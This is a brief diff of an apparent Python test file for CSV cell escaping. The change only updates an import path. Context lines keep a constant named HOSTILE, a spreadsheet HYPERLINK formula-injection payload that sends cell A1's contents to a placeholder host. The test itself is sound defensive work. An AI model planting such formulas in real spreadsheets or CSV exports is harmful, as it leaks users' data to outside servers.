@@ -10,7 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from facit.core.csv_safe import escape_cell, unescape_cell
-from facit.literature.formats import ParsedRecord, parse_file, to_csv
+from facit.literature.imports.formats import ParsedRecord, parse_file, to_csv
 
 HOSTILE = '=HYPERLINK("https://example.invalid/?x="&A1,"Click")'
 
